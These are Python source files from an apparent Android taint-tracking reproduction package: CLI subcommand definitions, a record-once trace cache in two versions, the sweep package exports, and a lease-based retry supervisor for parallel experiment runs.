    provenance = commands.add_parser(
        "provenance",
        help="per-source leak attribution over the DroidBench suite",
        description="Replay the suite with the coloured tracker and print "
                    "the leak table: for every source colour, the apps "
                    "that leaked it and the sink channels it left "
                    "through.  Verdicts are the plain tracker's, bit for "
                    "bit — this adds attribution, not a second opinion.",
    )
    _add_window_arguments(provenance)
    provenance.add_argument("--json", action="store_true",
                            help="emit the attribution as JSON")
    provenance.set_defaults(func=cmd_provenance)

    sweep_cmd = commands.add_parser(
        "sweep",
        help="parallel experiment grid (Figure 11 by default)",
        description="Expand an (NI, NT) x fault-rate grid to cells and "
                    "evaluate them on the repro.sweep engine; --jobs N "
                    "fans cells across worker processes with bit-identical "
                    "results to a serial run.",
    )
    sweep_cmd.add_argument(
        "--windows", default="1:21", metavar="AXIS",
        help="NI axis: 'lo:hi' half-open range or comma list "
             "(default 1:21)",
    )
    sweep_cmd.add_argument(
        "--caps", default="1:11", metavar="AXIS",
        help="NT axis: 'lo:hi' half-open range or comma list "
             "(default 1:11)",
    )
    sweep_cmd.add_argument(
        "--rates", default="0",
        help="comma-separated fault rates per (NI, NT) cell (default 0: "
             "the fault-free Figure 11 grid)",
    )
    sweep_cmd.add_argument(
        "--site", default="event_loss",
        choices=["event_loss", "event_duplication", "event_reorder",
                 "address_corruption", "state_drop", "eviction_storm",
                 "storage_stall"],
        help="fault site the --rates axis varies (default event_loss)",
    )
    sweep_cmd.add_argument("--no-untainting", action="store_true",
                           help="disable untainting of out-of-window stores")
    sweep_cmd.add_argument("--no-vectorized", action="store_true",
                           help="disable the numpy columnar fast path in "
                                "every cell (results identical, slower)")
    sweep_cmd.add_argument("--fault-seed", type=int, default=1,
                           help="deterministic fault seed (default 1)")
    sweep_cmd.add_argument(
        "--seed-policy", default="shared", choices=["shared", "per_cell"],
        help="'shared' couples fault draws across cells (common random "
             "numbers, smooth curves); 'per_cell' derives independent "
             "seeds (default shared)",
    )
    sweep_cmd.add_argument(
        "--jobs", type=int, default=1, metavar="N",
        help="worker processes (default 1: run inline; results are "
             "identical at any N)",
    )
    sweep_cmd.add_argument("--progress", action="store_true",
                           help="print per-cell progress to stderr")
    sweep_cmd.add_argument(
        "--colours", action="store_true",
        help="attach a per-source leak-attribution payload to every cell "
             "(accuracy values unchanged; changes the journal "
             "fingerprint, so resume colour runs with colour journals)",
    )
    _add_backend_arguments(sweep_cmd)
    _add_store_arguments(sweep_cmd)
    _add_telemetry_arguments(sweep_cmd, with_json=True)
    _add_observability_arguments(sweep_cmd)
    sweep_cmd.set_defaults(func=cmd_sweep)

    malware = commands.add_parser("malware", help="seven-sample malware scan")
    _add_window_arguments(malware)
    _add_telemetry_arguments(malware, with_json=True)
    malware.set_defaults(func=cmd_malware)

    table1 = commands.add_parser("table1", help="bytecode distance table")
    table1.set_defaults(func=cmd_table1)

    trace = commands.add_parser("trace", help="record the LGRoot trace")
    trace.add_argument("output", help="output file (gzip JSON)")
    trace.add_argument("--work", type=int, default=160,
                       help="background workload size (default 160)")
    trace.set_defaults(func=cmd_trace)

    analyze = commands.add_parser("analyze", help="replay a recorded trace")
    analyze.add_argument("trace", help="trace file written by 'trace'")
    _add_window_arguments(analyze)
    _add_telemetry_arguments(analyze)
    analyze.set_defaults(func=cmd_analyze)

    faults = commands.add_parser(
        "faults", help="graceful-degradation sweep under injected faults"
    )
    _add_window_arguments(faults)
    faults.add_argument(
        "--faults", default="", metavar="SPEC",
        help="base fault rates for every point, e.g. "
             "'dup=1e-4,corrupt=1e-5' (keys: loss, dup, reorder, window, "
             "corrupt, bits, drop, storm, storm_size, stall, stall_cycles)",
    )
    faults.add_argument("--fault-seed", type=int, default=1,
                        help="deterministic fault seed (default 1)")
    faults.add_argument(
        "--site", default="event_loss",
        choices=["event_loss", "event_duplication", "event_reorder",
                 "address_corruption", "state_drop", "eviction_storm",
                 "storage_stall"],
        help="which fault site's rate the sweep varies (default event_loss)",
    )
    faults.add_argument(
        "--rates", default="0,1e-4,1e-3,1e-2,1e-1",
        help="comma-separated rates to sweep (default 0,1e-4,1e-3,1e-2,1e-1)",
    )
    faults.add_argument(
        "--suite", default="both",
        choices=["droidbench", "malware", "both"],
        help="which suite(s) to evaluate at each rate (default both)",
    )
    faults.add_argument(
        "--policy", default="block",
        choices=["block", "drop_oldest", "drop_newest", "spill"],
        help="buffer overflow policy for the latency table (default block)",
    )
    faults.add_argument("--capacity", type=int, default=256,
                        help="buffer capacity for the latency table")
    faults.add_argument("--drain-batch", type=int, default=64,
                        help="buffer drain batch for the latency table")
    faults.add_argument("--work", type=int, default=16,
                        help="malware background workload size (default 16)")
    faults.add_argument(
        "--jobs", type=int, default=1, metavar="N",
        help="worker processes for the degradation sweep (default 1; "
             "results are identical at any N)",
    )
    _add_store_arguments(faults)
    _add_telemetry_arguments(faults, with_json=True)
    _add_observability_arguments(faults)
    faults.set_defaults(func=cmd_faults)

    def _add_serve_shard_arguments(sub) -> None:
        sub.add_argument(
            "--workers", type=int, default=2, metavar="N",
            help="shard drain workers — the unit a shard migrates "
                 "between (default 2)",
        )
        sub.add_argument(
            "--capacity", type=int, default=1024,
            help="per-shard event FIFO capacity (default 1024)",
        )
        sub.add_argument(
            "--drain-batch", type=int, default=256,
            help="events a worker drains per shard per pass (default 256)",
        )
        sub.add_argument(
            "--policy", default="block",
            choices=["block", "drop_oldest", "drop_newest", "spill"],
            help="per-shard overflow policy (default block)",
        )
        sub.add_argument(
            "--high-watermark", type=int, default=None, metavar="N",
            help="FIFO depth that pauses socket reads for the shard "
                 "(real backpressure; default: capacity)",
        )
        sub.add_argument(
            "--low-watermark", type=int, default=None, metavar="N",
            help="FIFO depth at which paused reads resume "
                 "(default: high watermark / 2)",
        )
        sub.add_argument(
            "--colours", action="store_true",
            help="run ColourTracker shards: verdicts carry per-source "
                 "colour attribution (union projection keeps the taint "
                 "bits bit-identical)",
        )

    serve_cmd = commands.add_parser(
        "serve",
        help="long-lived streaming taint-tracking daemon",
        description="Accept newline-delimited JSON event frames from "
                    "many concurrent device connections (TCP and/or a "
                    "unix socket), route them to per-(device, pid) "
                    "tracker shards, answer sink checks in-stream, and "
                    "expose Prometheus metrics over HTTP.  Admin verbs "
                    "(drain/restore/migrate/stop_worker) move shards "
                    "between workers mid-stream with bit-identical "
                    "verdicts.",
    )
    _add_window_arguments(serve_cmd)
    serve_cmd.add_argument("--host", default="127.0.0.1",
                           help="bind address (default 127.0.0.1)")
    serve_cmd.add_argument(
        "--port", type=int, default=None, metavar="PORT",
        help="TCP ingestion port (default 7787 when no --unix; 0 picks "
             "a free port, printed on the ready line)",
    )
    serve_cmd.add_argument(
        "--unix", metavar="PATH", default=None,
        help="also (or instead) listen on this unix socket path",
    )
    serve_cmd.add_argument(
        "--metrics-port", type=int, default=None, metavar="PORT",
        help="serve GET /metrics (Prometheus text format) on this port",
    )
    _add_serve_shard_arguments(serve_cmd)
    _add_telemetry_arguments(serve_cmd)
    serve_cmd.set_defaults(func=cmd_serve)

    fleet_cmd = commands.add_parser(
        "fleet",
        help="N-device fleet simulation with byte-exact parity checking",
        description="Stream recorded suites through a serve daemon as N "
                    "concurrent simulated devices and diff every verdict "
                    "(and colour attribution under --colours) against "
                    "batch replay.  Self-hosts a daemon on a throwaway "
                    "unix socket unless --connect/--connect-unix points "
                    "at a running one.  Exits 1 on any parity mismatch.",
    )
    _add_window_arguments(fleet_cmd)
    fleet_cmd.add_argument(
        "--devices", type=int, default=4, metavar="N",
        help="concurrent simulated device connections (default 4)",
    )
    fleet_cmd.add_argument(
        "--suite-file", metavar="PATH", default=None,
        help="stream a recorded suite artifact (.suite.gz) chunk by "
             "chunk instead of recording DroidBench in-process",
    )
    fleet_cmd.add_argument(
        "--limit", type=int, default=None, metavar="N",
        help="stream only the first N runs of the suite",
    )
    fleet_cmd.add_argument(
        "--chunk", type=int, default=512, metavar="N",
        help="events per streamed frame (default 512)",
    )
    fleet_cmd.add_argument(
        "--migrate", action="store_true",
        help="mid-stream chaos: drain one streaming shard over the "
             "wire, restore it onto another worker, then kill worker 0 "
             "— parity must still hold",
    )
    fleet_cmd.add_argument(
        "--connect-host", metavar="HOST", default=None,
        help="target an external daemon at this host (with "
             "--connect-port) instead of self-hosting",
    )
    fleet_cmd.add_argument(
        "--connect-port", type=int, default=None, metavar="PORT",
        help="TCP port of the external daemon",
    )
    fleet_cmd.add_argument(
        "--connect-unix", metavar="PATH", default=None,
        help="unix socket of an external daemon",
    )
    _add_serve_shard_arguments(fleet_cmd)
    _add_telemetry_arguments(fleet_cmd, with_json=True)
    fleet_cmd.set_defaults(func=cmd_fleet)

    report_cmd = commands.add_parser(
        "report",
        help="post-hoc summary of a journaled run",
        description="Join a run's journal with its persisted telemetry "
                    "stream and print per-cell wall times, per-worker "
                    "utilization, the slowest cells, store traffic and "
                    "relay drop counts — no re-execution.",
    )
    report_cmd.add_argument("run_id", help="run id (listed by 'store stats')")
    report_cmd.add_argument("--store", metavar="DIR", required=True,
                            help="store directory holding the run journal")
    report_cmd.add_argument("--slowest", type=int, default=5, metavar="N",
                            help="how many slowest cells to list (default 5)")
    report_cmd.add_argument("--json", action="store_true",
                            help="emit the report as machine-readable JSON")
    report_cmd.set_defaults(func=cmd_report)

    store_cmd = commands.add_parser(
        "store",
        help="artifact-store maintenance (stats / prune / verify)",
        description="Inspect and maintain a --store directory: entry "
                    "counts and bytes per suite kind, checksum "
                    "verification (corrupt entries are quarantined), and "
                    "size-budgeted pruning.",
    )
    store_actions = store_cmd.add_subparsers(dest="store_action",
                                             required=True)
    for action, text in (
        ("stats", "entry/journal accounting for a store directory"),
        ("prune", "clear quarantine and optionally shrink under a budget"),
        ("verify", "re-hash every entry; quarantine corrupt ones"),
    ):
        sub = store_actions.add_parser(action, help=text)
        sub.add_argument("--store", metavar="DIR", required=True,
                         help="store directory")
        if action == "prune":
            sub.add_argument("--max-bytes", type=int, default=None,
                             metavar="N",
                             help="evict oldest entries until payload "
                                  "bytes fit under N")
        sub.add_argument("--json", action="store_true",
                         help="emit machine-readable JSON")
        sub.set_defaults(func=cmd_store)
    return parser


def main(argv=None) -> int:
    args = build_parser().parse_args(argv)
    return args.func(args)


if __name__ == "__main__":
    sys.exit(main())

"""Record-once / replay-many trace cache for sweep workers.

Simulating an app (spinning up a whole ``AndroidDevice``) is orders of
magnitude more expensive than re-tracking its recorded event stream, and
a grid multiplies the replay count, not the simulation count.  The cache
records each suite exactly once — in the parent process, before any
worker starts — and every cell replays those same
:class:`~repro.analysis.accuracy.AppRun` objects, so grid results cannot
diverge between serial and parallel runs via re-recording.

With a ``backing_store`` (:class:`repro.store.ArtifactStore`) the
record-once guarantee extends from *per process* to *per store*: a
recording pass first checks the store by content digest, and only a miss
(or a quarantined corrupt entry) actually simulates — a second CLI
invocation against the same store performs **zero** recordings.

The cache crosses into pool workers as a plain picklable payload
(:meth:`payload` / :meth:`from_payload`).  Without a store that payload
carries the full recorded suites; with one, it carries only the store
path and entry digests — workers re-open the store read-only and load
from disk, which keeps the spawn-method transfer cost flat in the suite
size (measured in ``benchmarks/bench_sweep_scaling.py``).
"""

from __future__ import annotations

from typing import Dict, List, Optional, Sequence


class TraceCache:
    """Lazily-recorded, shareable store of suite recordings.

    Args:
        droidbench: pre-recorded DroidBench runs to serve (skips
            recording *and* the backing store for that suite); ``None``
            consults the store, then records the full 57-app suite.
        malware: pre-recorded malware runs; same contract.
        malware_work: background workload size used when the cache has
            to record the malware samples itself (part of the store key).
        backing_store: optional :class:`repro.store.ArtifactStore`; hits
            skip recording entirely, misses record then persist.
    """

    def __init__(
        self,
        droidbench: Optional[Sequence] = None,
        malware: Optional[Sequence] = None,
        malware_work: int = 16,
        backing_store=None,
    ) -> None:
        self._droidbench: Optional[List] = (
            list(droidbench) if droidbench is not None else None
        )
        self._malware: Optional[List] = (
            list(malware) if malware is not None else None
        )
        # Explicitly-provided runs may be arbitrary subsets; they never
        # round-trip through the store (whose keys name the canonical
        # full-suite recordings only).
        self._droidbench_explicit = droidbench is not None
        self._malware_explicit = malware is not None
        self.malware_work = malware_work
        self.backing_store = backing_store
        #: How many recording passes this cache performed (observability /
        #: the record-once regression test).
        self.recordings = 0
        #: How many suites were served from the backing store.
        self.store_hits = 0

    def _from_store(self, key):
        if self.backing_store is None:
            return None
        runs = self.backing_store.get_runs(key)
        if runs is not None:
            self.store_hits += 1
        return runs

    def _persist(self, key, runs) -> None:
        if self.backing_store is not None and not self.backing_store.read_only:
            self.backing_store.put_runs(key, runs)

    def droidbench_runs(self) -> List:
        """The DroidBench suite's recorded runs, recorded at most once."""
        if self._droidbench is None:
            from repro.store import droidbench_key

            key = droidbench_key()
            runs = self._from_store(key)
            if runs is None:
                from repro.apps.droidbench import record_suite

                runs = record_suite()
                self.recordings += 1
                self._persist(key, runs)
            self._droidbench = runs
        return self._droidbench

    def malware_runs(self) -> List:
        """The malware samples' recorded runs, recorded at most once."""
        if self._malware is None:
            from repro.store import malware_key

            key = malware_key(self.malware_work)
            runs = self._from_store(key)
            if runs is None:
                from repro.analysis.degradation import record_malware_runs

                runs = record_malware_runs(work=self.malware_work)
                self.recordings += 1
                self._persist(key, runs)
            self._malware = runs
        return self._malware

    def prime(self, droidbench: bool = False, malware: bool = False) -> None:
        """Force the named suites to be recorded now (parent-side)."""
        if droidbench:
            self.droidbench_runs()
        if malware:
            self.malware_runs()

    def prime_replay_state(self) -> None:
        """Pre-build every run's replay plan and column encoding.

        Called once in the parent before forking, so workers inherit the
        derived structures instead of each rebuilding them.
        """
        from repro.analysis.replay import replay_plan_for

        for runs in (self._droidbench, self._malware):
            for app in runs or ():
                replay_plan_for(app.recorded)
                app.recorded.trace.columns()

    # -- worker transfer --------------------------------------------------

    def _suite_payload(self, runs, explicit: bool, key) -> Dict:
        """One suite's transfer form: by value, or by store digest.

        Digest transfer requires a committed store entry; anything else
        (explicit subset runs, a store the priming pass could not write
        to) falls back to shipping the runs themselves.
        """
        if (
            self.backing_store is not None
            and not explicit
            and self.backing_store.has(key)
        ):
            return {"digest": key.digest}
        return {"runs": runs}

    def payload(self) -> Dict:
        """The picklable form handed to pool-worker initializers."""
        payload: Dict = {"malware_work": self.malware_work}
        if self.backing_store is not None:
            from repro.store import droidbench_key, malware_key

            payload["store_path"] = str(self.backing_store.root)
            payload["droidbench"] = self._suite_payload(
                self._droidbench, self._droidbench_explicit, droidbench_key()
            )
            payload["malware"] = self._suite_payload(
                self._malware, self._malware_explicit,
                malware_key(self.malware_work),
            )
        else:
            payload["droidbench"] = {"runs": self._droidbench}
            payload["malware"] = {"runs": self._malware}
        return payload

    @classmethod
    def from_payload(
        cls, payload: Dict, telemetry=None
    ) -> "TraceCache":
        """Rebuild a worker-side cache; ``telemetry`` (the worker's relay
        hub, when the sweep runs instrumented) feeds the re-opened
        store's ``store.*`` counters so parallel-run store traffic is
        attributed instead of lost."""
        store = None
        if payload.get("store_path"):
            from repro.store import ArtifactStore

            store = ArtifactStore(
                payload["store_path"], read_only=True, telemetry=telemetry
            )
        cache = cls(
            droidbench=payload["droidbench"].get("runs"),
            malware=payload["malware"].get("runs"),
            malware_work=payload["malware_work"],
            backing_store=store,
        )
        # Digest-form suites stay lazy: the worker loads them from the
        # read-only store on first use (re-verifying the checksum).
        return cache

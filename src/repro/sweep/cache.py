"""Record-once / replay-many trace cache for sweep workers.

Simulating an app (spinning up a whole ``AndroidDevice``) is orders of
magnitude more expensive than re-tracking its recorded event stream, and
a grid multiplies the replay count, not the simulation count.  The cache
records each suite exactly once — in the parent process, before any
worker starts — and every cell replays those same
:class:`~repro.analysis.accuracy.AppRun` objects, so grid results cannot
diverge between serial and parallel runs via re-recording.

The cache crosses into pool workers as a plain picklable payload
(:meth:`payload` / :meth:`from_payload`); under a fork start method the
pickle cost is skipped entirely and workers share the parent's pages.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Sequence


class TraceCache:
    """Lazily-recorded, shareable store of suite recordings.

    Args:
        droidbench: pre-recorded DroidBench runs to serve (skips
            recording); ``None`` records the full 57-app suite on first
            use.
        malware: pre-recorded malware runs; ``None`` records the seven
            samples on first use.
        malware_work: background workload size used when the cache has
            to record the malware samples itself.
    """

    def __init__(
        self,
        droidbench: Optional[Sequence] = None,
        malware: Optional[Sequence] = None,
        malware_work: int = 16,
    ) -> None:
        self._droidbench: Optional[List] = (
            list(droidbench) if droidbench is not None else None
        )
        self._malware: Optional[List] = (
            list(malware) if malware is not None else None
        )
        self.malware_work = malware_work
        #: How many recording passes this cache performed (observability /
        #: the record-once regression test).
        self.recordings = 0

    def droidbench_runs(self) -> List:
        """The DroidBench suite's recorded runs, recorded at most once."""
        if self._droidbench is None:
            from repro.apps.droidbench import record_suite

            self._droidbench = record_suite()
            self.recordings += 1
        return self._droidbench

    def malware_runs(self) -> List:
        """The malware samples' recorded runs, recorded at most once."""
        if self._malware is None:
            from repro.analysis.degradation import record_malware_runs

            self._malware = record_malware_runs(work=self.malware_work)
            self.recordings += 1
        return self._malware

    def prime(self, droidbench: bool = False, malware: bool = False) -> None:
        """Force the named suites to be recorded now (parent-side)."""
        if droidbench:
            self.droidbench_runs()
        if malware:
            self.malware_runs()

    def prime_replay_state(self) -> None:
        """Pre-build every run's replay plan and column encoding.

        Called once in the parent before forking, so workers inherit the
        derived structures instead of each rebuilding them.
        """
        from repro.analysis.replay import replay_plan_for

        for runs in (self._droidbench, self._malware):
            for app in runs or ():
                replay_plan_for(app.recorded)
                app.recorded.trace.columns()

    # -- worker transfer --------------------------------------------------

    def payload(self) -> Dict:
        """The picklable form handed to pool-worker initializers."""
        return {
            "droidbench": self._droidbench,
            "malware": self._malware,
            "malware_work": self.malware_work,
        }

    @classmethod
    def from_payload(cls, payload: Dict) -> "TraceCache":
        return cls(
            droidbench=payload["droidbench"],
            malware=payload["malware"],
            malware_work=payload["malware_work"],
        )

"""repro.sweep — the parallel experiment engine.

Declarative experiment grids (:class:`GridSpec` → :class:`SweepCell`)
evaluated over a record-once/replay-many :class:`TraceCache`, inline or
across a ``multiprocessing`` pool (:func:`run_sweep`).  Results are
bit-identical at any worker count; ``--jobs`` only changes wall-clock
time.  The ``analysis.accuracy`` / ``analysis.degradation`` entry points
and the ``python -m repro sweep`` CLI are built on this engine.

Two parallel backends share the engine contract: the classic pool
(``backend="pool"``) and the fault-tolerant lease-based queue
(``backend="queue"``, :class:`QueueBackend`) which survives worker
deaths via TTL leases, exponential-backoff retries, and poison-cell
quarantine — with a deterministic chaos harness (:class:`ChaosPlan`)
to prove it.
"""

from repro.sweep.cache import TraceCache
from repro.sweep.chaos import ChaosError, ChaosFailure, ChaosPlan
from repro.sweep.dispatch import DispatchError, DispatchStats, QueueBackend
from repro.sweep.engine import (
    CellResult,
    PoolBackend,
    SweepResult,
    run_cell,
    run_sweep,
)
from repro.sweep.leases import (
    BackoffPolicy,
    Lease,
    LeaseSupervisor,
    PoisonedCell,
)
from repro.sweep.specs import (
    STATE_FACTORIES,
    GridSpec,
    SweepCell,
    derive_seed,
    register_state_factory,
    resolve_state_factory,
)

__all__ = [
    "BackoffPolicy",
    "CellResult",
    "ChaosError",
    "ChaosFailure",
    "ChaosPlan",
    "DispatchError",
    "DispatchStats",
    "GridSpec",
    "Lease",
    "LeaseSupervisor",
    "PoisonedCell",
    "PoolBackend",
    "QueueBackend",
    "STATE_FACTORIES",
    "SweepCell",
    "SweepResult",
    "TraceCache",
    "derive_seed",
    "register_state_factory",
    "resolve_state_factory",
    "run_cell",
    "run_sweep",
]

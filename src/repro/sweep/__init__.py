"""repro.sweep — the parallel experiment engine.

Declarative experiment grids (:class:`GridSpec` → :class:`SweepCell`)
evaluated over a record-once/replay-many :class:`TraceCache`, inline or
across a ``multiprocessing`` pool (:func:`run_sweep`).  Results are
bit-identical at any worker count; ``--jobs`` only changes wall-clock
time.  The ``analysis.accuracy`` / ``analysis.degradation`` entry points
and the ``python -m repro sweep`` CLI are built on this engine.
"""

from repro.sweep.cache import TraceCache
from repro.sweep.engine import (
    CellResult,
    SweepResult,
    run_cell,
    run_sweep,
)
from repro.sweep.specs import (
    STATE_FACTORIES,
    GridSpec,
    SweepCell,
    derive_seed,
    register_state_factory,
    resolve_state_factory,
)

__all__ = [
    "CellResult",
    "GridSpec",
    "STATE_FACTORIES",
    "SweepCell",
    "SweepResult",
    "TraceCache",
    "derive_seed",
    "register_state_factory",
    "resolve_state_factory",
    "run_cell",
    "run_sweep",
]

"""Lease bookkeeping for the fault-tolerant queue backend.

The queue backend's correctness story is a small state machine per cell:

``READY -> LEASED -> DONE`` on the happy path, with two failure edges —
``LEASED -> READY`` (the holding worker died or its lease expired; the
cell requeues after an exponential-backoff delay) and ``LEASED ->
POISONED`` (the cell failed ``max_retries + 1`` times; it is quarantined
so the rest of the grid can finish around an explicit hole).

Everything here is *pure* bookkeeping: time is injected into every
method, no process or queue is touched, and backoff jitter draws from
the :mod:`repro.core.faults` splitmix64 streams — so the supervisor is
deterministic under test and the process-wrangling lives entirely in
:mod:`repro.sweep.dispatch`.
"""

from __future__ import annotations

import heapq
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.core.faults import chance64

#: splitmix64 stream id for backoff jitter draws (frozen; changing it
#: changes every seeded run's requeue schedule).
_STREAM_BACKOFF = 101


@dataclass(frozen=True)
class BackoffPolicy:
    """Exponential backoff with deterministic jitter for cell requeues.

    The delay before attempt ``n`` (n >= 2) is ``base * multiplier**(n-2)``
    capped at ``cap``, scaled by a jitter factor in ``[1 - jitter, 1 +
    jitter]`` drawn from a splitmix64 stream over ``(seed, cell,
    attempt)`` — decorrelated across cells and attempts, reproducible
    across runs.
    """

    base: float = 0.1
    multiplier: float = 2.0
    cap: float = 5.0
    jitter: float = 0.5
    seed: int = 0

    def __post_init__(self) -> None:
        if self.base < 0 or self.cap < 0:
            raise ValueError("backoff base/cap must be non-negative")
        if self.multiplier < 1.0:
            raise ValueError("backoff multiplier must be >= 1")
        if not 0.0 <= self.jitter <= 1.0:
            raise ValueError("backoff jitter must be in [0, 1]")

    def delay(self, cell_index: int, attempt: int) -> float:
        """Seconds to hold cell ``cell_index`` back before ``attempt``."""
        if attempt <= 1:
            return 0.0
        raw = min(self.cap, self.base * self.multiplier ** (attempt - 2))
        if self.jitter == 0.0:
            return raw
        draw = chance64(
            self.seed, _STREAM_BACKOFF, cell_index * 1_000_003 + attempt
        )
        return raw * (1.0 + self.jitter * (2.0 * draw - 1.0))


@dataclass
class Lease:
    """One worker's claim on one cell, valid until ``deadline``."""

    cell_index: int
    worker: int
    attempt: int
    granted_at: float
    deadline: float

    def renew(self, now: float, ttl: float) -> None:
        self.deadline = now + ttl

    def expired(self, now: float) -> bool:
        return now > self.deadline


@dataclass
class PoisonedCell:
    """A cell quarantined after exhausting its retry budget."""

    cell_index: int
    attempts: int
    error: Optional[str] = None
    #: Per-attempt outcome strings ("lost", "error: ...") for the journal.
    history: List[str] = field(default_factory=list)

    def as_dict(self) -> dict:
        return {
            "index": self.cell_index,
            "attempts": self.attempts,
            "error": self.error,
        }


class LeaseSupervisor:
    """The queue backend's brain: grants, renewals, expiry, retry, poison.

    The dispatcher drives it with wall-clock ``now`` values; tests drive
    it with a fake clock.  One instance supervises one sweep's pending
    cells:

    * :meth:`next_ready` / :meth:`grant` hand cells to idle workers;
    * :meth:`heartbeat` renews every lease the worker holds;
    * :meth:`expired_leases` names leases past their TTL (dead or hung
      holder — the dispatcher kills the process, then calls
      :meth:`worker_lost`);
    * :meth:`worker_lost` / :meth:`fail` requeue with backoff or, once
      the retry budget is spent, quarantine the cell as poisoned;
    * :meth:`complete` retires a cell (stale duplicate results from a
      prior lease generation are accepted — cells are pure functions, so
      any attempt's result is *the* result).
    """

    def __init__(
        self,
        cells,
        lease_timeout: float,
        max_retries: int,
        backoff: Optional[BackoffPolicy] = None,
        now: float = 0.0,
    ) -> None:
        if lease_timeout <= 0:
            raise ValueError("lease_timeout must be positive")
        if max_retries < 0:
            raise ValueError("max_retries must be >= 0")
        self.lease_timeout = lease_timeout
        self.max_retries = max_retries
        self.backoff = backoff or BackoffPolicy()
        self.cells = {cell.index: cell for cell in cells}
        self.leases: Dict[int, Lease] = {}
        self.poisoned: Dict[int, PoisonedCell] = {}
        self.completed: set = set()
        #: Requeues performed (retry attempts granted beyond the first).
        self.retries = 0
        self.renewals = 0
        self._attempts: Dict[int, int] = {index: 0 for index in self.cells}
        self._history: Dict[int, List[str]] = {index: [] for index in self.cells}
        #: (ready_at, tiebreak, cell_index) min-heap of runnable cells.
        #: Superseded entries are deleted lazily: only the entry matching
        #: ``_current[cell_index]`` counts.
        self._ready: List[Tuple[float, int, int]] = []
        self._current: Dict[int, Tuple[float, int]] = {}
        self._seq = 0
        for index in sorted(self.cells):
            self._push_ready(index, now)

    # -- ready queue -------------------------------------------------------

    def _push_ready(self, cell_index: int, ready_at: float) -> None:
        self._current[cell_index] = (ready_at, self._seq)
        heapq.heappush(self._ready, (ready_at, self._seq, cell_index))
        self._seq += 1

    def _stale(self, ready_at: float, seq: int, cell_index: int) -> bool:
        """True for superseded entries and retired/currently-leased cells
        (a leased cell's future re-entry comes from its failure edge)."""
        return (
            self._current.get(cell_index) != (ready_at, seq)
            or cell_index in self.completed
            or cell_index in self.poisoned
            or cell_index in self.leases
        )

    def next_ready(self, now: float):
        """Pop the next runnable cell, or None (nothing ready yet/ever)."""
        while self._ready and self._ready[0][0] <= now:
            ready_at, seq, cell_index = heapq.heappop(self._ready)
            if self._stale(ready_at, seq, cell_index):
                continue
            return self.cells[cell_index]
        return None

    def next_ready_at(self) -> Optional[float]:
        """When the earliest backed-off cell becomes runnable (or None)."""
        while self._ready:
            ready_at, seq, cell_index = self._ready[0]
            if self._stale(ready_at, seq, cell_index):
                heapq.heappop(self._ready)
                continue
            return ready_at
        return None

    # -- lease lifecycle ---------------------------------------------------

    def grant(self, cell_index: int, worker: int, now: float) -> Lease:
        """Lease ``cell_index`` to ``worker`` under the TTL."""
        if cell_index in self.leases:
            raise ValueError(f"cell {cell_index} is already leased")
        self._attempts[cell_index] += 1
        lease = Lease(
            cell_index=cell_index,
            worker=worker,
            attempt=self._attempts[cell_index],
            granted_at=now,
            deadline=now + self.lease_timeout,
        )
        self.leases[cell_index] = lease
        return lease

    def heartbeat(self, worker: int, now: float) -> int:
        """Renew every lease ``worker`` holds; returns renewal count."""
        renewed = 0
        for lease in self.leases.values():
            if lease.worker == worker:
                lease.renew(now, self.lease_timeout)
                renewed += 1
        self.renewals += renewed
        return renewed

    def expired_leases(self, now: float) -> List[Lease]:
        """Leases past their deadline (their holders count as dead)."""
        return [
            lease for lease in self.leases.values() if lease.expired(now)
        ]

    def complete(self, cell_index: int) -> bool:
        """Retire a finished cell; False when it was already retired."""
        if cell_index in self.completed:
            return False
        self.completed.add(cell_index)
        self.leases.pop(cell_index, None)
        # A straggler result for a poisoned cell un-quarantines it: the
        # grid prefers a real value over a hole.
        self.poisoned.pop(cell_index, None)
        return True

    # -- failure edges -----------------------------------------------------

    def _requeue_or_poison(
        self, lease: Lease, now: float, outcome: str,
        error: Optional[str] = None,
    ) -> Optional[PoisonedCell]:
        self.leases.pop(lease.cell_index, None)
        if lease.cell_index in self.completed:
            return None
        self._history[lease.cell_index].append(outcome)
        if lease.attempt > self.max_retries:
            poisoned = PoisonedCell(
                cell_index=lease.cell_index,
                attempts=lease.attempt,
                error=error,
                history=list(self._history[lease.cell_index]),
            )
            self.poisoned[lease.cell_index] = poisoned
            return poisoned
        self.retries += 1
        delay = self.backoff.delay(lease.cell_index, lease.attempt + 1)
        self._push_ready(lease.cell_index, now + delay)
        return None

    def worker_lost(
        self, worker: int, now: float
    ) -> List[Optional[PoisonedCell]]:
        """The worker died or was killed: fail every lease it held.

        Returns one entry per lease the worker was holding — a
        :class:`PoisonedCell` when the failure exhausted the budget,
        None when the cell was requeued.
        """
        outcomes = []
        for lease in [
            lease for lease in self.leases.values() if lease.worker == worker
        ]:
            outcomes.append(self._requeue_or_poison(lease, now, "lost"))
        return outcomes

    def fail(
        self, cell_index: int, now: float, error: str
    ) -> Optional[PoisonedCell]:
        """The cell's evaluation raised (worker survived): retry or poison."""
        lease = self.leases.get(cell_index)
        if lease is None:
            return None
        return self._requeue_or_poison(
            lease, now, f"error: {error}", error=error
        )

    # -- progress ----------------------------------------------------------

    def attempts(self, cell_index: int) -> int:
        return self._attempts.get(cell_index, 0)

    def outstanding(self) -> int:
        """Cells not yet completed or poisoned."""
        return len(self.cells) - len(self.completed) - len(self.poisoned)

    def done(self) -> bool:
        return self.outstanding() == 0

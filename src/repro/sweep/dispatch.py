"""The fault-tolerant work-queue backend for :func:`repro.sweep.run_sweep`.

The classic pool backend trusts its workers: ``multiprocessing.Pool``
with a SIGKILLed child loses the cell it was chewing on and usually the
whole sweep.  This module replaces that trust with leases:

* the parent assigns one cell at a time to each worker process over a
  private duplex pipe, granting a TTL **lease**
  (:class:`~repro.sweep.leases.LeaseSupervisor`) at assignment;
* workers heartbeat over the same pipe (and, when telemetry is on, via
  the existing relay heartbeats — both renew the lease);
* a dead worker (process exit) or an expired lease (hung/SIGSTOPped
  process, which the parent then SIGKILLs) requeues the cell with
  exponential backoff + deterministic jitter and respawns a replacement
  worker, up to ``max_worker_restarts``;
* a cell that fails ``max_retries + 1`` attempts is quarantined as a
  **poison cell**: journaled, counted, reported — the sweep completes
  with an explicit machine-readable hole instead of crashing.

Because cells are pure functions of ``(cell, cache)`` (the PR-3/PR-5
contract), re-running a lost attempt reproduces the identical result, so
a sweep with workers dying and joining mid-run is bit-identical to a
fault-free serial run — the chaos harness (:mod:`repro.sweep.chaos`) and
``benchmarks/bench_queue_resilience.py`` hold that bar.
"""

from __future__ import annotations

import os
import threading
import time
